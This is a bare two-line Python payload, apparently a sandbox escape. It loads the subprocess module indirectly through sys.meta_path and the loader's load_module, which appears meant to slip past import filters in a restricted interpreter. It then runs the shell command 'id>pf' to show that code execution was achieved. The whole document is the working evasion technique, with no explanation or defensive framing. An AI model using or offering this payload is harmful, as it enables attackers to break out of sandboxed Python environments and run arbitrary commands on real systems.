import sys
sys.meta_path[-1].find_spec("subprocess").loader.load_module("subprocess").getoutput("id>pf")
